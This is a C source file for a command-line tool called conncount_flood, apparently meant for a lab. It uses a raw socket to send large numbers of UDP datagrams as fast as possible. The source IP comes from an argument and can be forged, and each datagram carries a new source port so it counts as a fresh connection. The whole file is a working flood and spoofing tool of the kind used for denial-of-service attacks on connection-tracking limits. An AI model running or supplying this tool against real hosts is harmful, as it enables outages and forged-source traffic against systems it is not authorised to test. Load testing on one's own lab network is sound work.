/* UDP datagrams of ever new connections: conncount_flood SOURCE DESTINATION COUNT [FIRST]
 *
 * A raw socket sends COUNT datagrams from SOURCE as fast as it can. Each has another source port;
 * the destination port is 443 for the first 60000, and one higher for each 60000 after them.
 * FIRST is the number of the first, 0 unless given.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>

#define FIRST_PORT 1024
#define PORTS 60000
#define TARGET_PORT 443

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	char data[8];
};

static double now(void)
{
	struct timespec at;

	clock_gettime(CLOCK_MONOTONIC, &at);
	return at.tv_sec + at.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct datagram packet = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP },
		.udp.len = htons(sizeof(struct udphdr) + sizeof(packet.data)),
		.data = "connect",
	};
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	long first, count, lost = 0;
	double start = now();

	if (argc < 4 || fd < 0)
		err(1, "conncount_flood SOURCE DESTINATION COUNT [FIRST]");
	if (inet_pton(AF_INET, argv[1], &packet.ip.saddr) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
		errx(1, "not an IPv4 address");
	packet.ip.daddr = to.sin_addr.s_addr;
	packet.ip.tot_len = htons(sizeof(packet));
	count = atol(argv[3]);
	first = argc > 4 ? atol(argv[4]) : 0;
	for (long n = first; n < first + count; n++) {
		packet.udp.source = htons(FIRST_PORT + n % PORTS);
		packet.udp.dest = htons(TARGET_PORT + n / PORTS);
		if (sendto(fd, &packet, sizeof(packet), 0, (void *)&to, sizeof(to)) < 0)
			lost++;
	}
	printf("lab: sent %ld, %ld failed, in %.2f s\n", count, lost, now() - start);
	return 0;
}
